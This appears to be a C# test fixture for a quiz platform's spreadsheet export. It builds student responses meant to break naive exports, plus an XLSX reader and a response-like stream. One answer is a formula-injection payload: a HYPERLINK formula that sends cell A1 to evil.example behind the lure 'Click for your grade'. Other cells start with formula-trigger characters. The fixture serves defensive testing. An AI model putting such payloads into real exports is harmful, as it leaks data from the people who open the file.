using System.IO.Compression;
using System.Xml.Linq;
using QuizPlatform.Web.Features.QuizResults.Export;

namespace QuizPlatform.Web.Tests.Features.QuizResults;

/// <summary>A small responses table with the answers that break naive exports, and a reader for what an XLSX writer wrote.</summary>
internal static class ExportFixtures
{
    public const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for your grade\")";
    public const string MultiLine = "Dropout, \"randomly\" zeroes units,\r\nso the net can't rely on one.\nThat's all";
    public static readonly DateTime HandedIn = new(2026, 12, 4, 10, 15, 30, DateTimeKind.Utc);

    public static readonly string[] Columns = ["Student", "Answer", "Score", "Handed in", "Note"];

    public static ExportTable Responses() => new("Responses: Q1/Q2", Columns, Rows(
        ["Ada", Hyperlink, 2.5, HandedIn, (string?)null],
        ["Bob", MultiLine, -1.0, new DateTimeOffset(2026, 12, 4, 11, 0, 0, TimeSpan.FromHours(1)), "-3 for copying"],
        ["@carl", "\tindented", 0.1, (DateTime?)null, "+1 bonus"]));

    public static async IAsyncEnumerable<IReadOnlyList<ExportCell>> Rows(params ExportCell[][] rows)
    {
        foreach (var row in rows)
        {
            await Task.Yield();
            yield return row;
        }
    }

    public static async Task<byte[]> WriteAsync(Func<ExportTable, Stream, CancellationToken, Task> writer, ExportTable table)
    {
        var output = new ResponseLikeStream();
        await writer(table, output, CancellationToken.None);
        return output.Written.ToArray();
    }

    /// <summary>The sheet's name and its rows, each cell as the text or number XML holds (empty for an empty cell).</summary>
    public static (string Sheet, List<List<string>> Rows) ReadXlsx(byte[] xlsx)
    {
        using var zip = new ZipArchive(new MemoryStream(xlsx), ZipArchiveMode.Read);
        XDocument Part(string path)
        {
            using var stream = zip.GetEntry(path)!.Open();
            return XDocument.Load(stream, LoadOptions.PreserveWhitespace);
        }
        XNamespace ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        var sheet = Part("xl/workbook.xml").Descendants(ns + "sheet").Single().Attribute("name")!.Value;
        var rows = Part("xl/worksheets/sheet1.xml").Descendants(ns + "row")
            .Select(r => r.Elements(ns + "c").Select(c => string.Concat(c.Descendants(ns + "t").Select(t => t.Value)) + c.Element(ns + "v")?.Value).ToList())
            .ToList();
        return (sheet, rows);
    }

    /// <summary>Like a response body: not seekable, and synchronous writes throw (Kestrel refuses them by default).</summary>
    private sealed class ResponseLikeStream : Stream
    {
        public MemoryStream Written { get; } = new();
        public override bool CanRead => false;
        public override bool CanSeek => false;
        public override bool CanWrite => true;
        public override long Length => throw new NotSupportedException();
        public override long Position { get => Written.Length; set => throw new NotSupportedException(); }
        public override void Flush() => throw new InvalidOperationException("Synchronous flush.");
        public override Task FlushAsync(CancellationToken cancellationToken) => Task.CompletedTask;
        public override void Write(byte[] buffer, int offset, int count) => throw new InvalidOperationException("Synchronous write.");
        public override ValueTask WriteAsync(ReadOnlyMemory<byte> buffer, CancellationToken cancellationToken = default) => Written.WriteAsync(buffer, cancellationToken);
        public override Task WriteAsync(byte[] buffer, int offset, int count, CancellationToken cancellationToken) => Written.WriteAsync(buffer, offset, count, cancellationToken);
        public override int Read(byte[] buffer, int offset, int count) => throw new NotSupportedException();
        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
        public override void SetLength(long value) => throw new NotSupportedException();
    }
}
